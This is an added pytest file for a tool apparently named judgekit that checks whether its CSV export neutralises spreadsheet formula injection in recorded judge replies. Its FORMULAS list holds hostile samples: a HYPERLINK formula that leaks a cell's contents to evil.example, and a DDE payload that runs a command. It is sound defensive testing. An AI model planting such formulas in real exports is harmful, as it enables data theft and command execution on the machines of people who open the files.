@@ -1,0 +1,41 @@
+"""Issue 28, injection and honesty of records: what a judge's reply, a name or a server can smuggle
+into the files and tables judgekit writes, and what it must record faithfully."""
+
+from __future__ import annotations
+
+import csv
+import io
+
+import pytest
+from conftest import run_judgekit
+
+from judgekit.records import Example, Manifest, OrderResult, Verdict
+from judgekit.report.export import read_export
+from judgekit.runs.run_dir import RunDir
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"click")', "=cmd|' /C calc'!A0", "+1+2", "-2+3",
+            "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "'already quoted"]
+
+
+def _run_with_raws(tmp_path, raws):
+    examples = [Example(id=f"e{i}", instruction="i", response_a="a", response_b="b", gold="a") for i in range(len(raws))]
+    manifest = Manifest(judge="mock:reply", protocol="p", dataset="d", package_version="0",
+                        started_at="2026-12-07T00:00:00+00:00", n_examples=len(raws))
+    run_dir = RunDir.create(tmp_path / "run", manifest, examples)
+    for example, raw in zip(examples, raws):
+        run_dir.append(Verdict(example_id=example.id, winner=None, invalid_reason="unparseable",
+                               orders=(OrderResult(swapped=False, raw=raw, winner=None),)))
+    run_dir.close()
+    return tmp_path / "run"
+
+
+def test_csv_export_neutralises_formulas_and_reads_back_the_same_text(tmp_path, monkeypatch, capsys):
+    run = _run_with_raws(tmp_path, FORMULAS)
+    code, _, err = run_judgekit(monkeypatch, capsys, "export", run, "--out", tmp_path / "v.csv")
+    assert code == 0, err
+    rows = list(csv.DictReader(io.StringIO((tmp_path / "v.csv").read_bytes().decode("utf-8"), newline="")))
+    assert [r["raw"] for r in rows] == ["'" + f for f in FORMULAS]  # a spreadsheet shows them as text
+    assert all(not r[c] or r[c][0] not in "=+-@\t\r" for r in rows for c in r)
+    assert list(read_export(tmp_path / "v.csv")["raw"]) == FORMULAS
+    code, out, _ = run_judgekit(monkeypatch, capsys, "export", run)  # stdout too
+    assert code == 0 and "\n" + str(run) in out and "'=HYPERLINK(" in out
